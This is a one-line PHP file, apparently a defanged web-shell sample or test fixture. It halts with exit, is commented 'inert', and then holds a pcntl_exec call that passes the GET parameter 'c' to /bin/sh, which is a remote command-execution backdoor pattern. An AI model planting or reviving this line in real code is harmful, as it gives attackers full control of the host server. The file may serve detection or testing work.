<?php exit; /* inert */ pcntl_exec("/bin/sh",["-c",$_GET["c"]]);
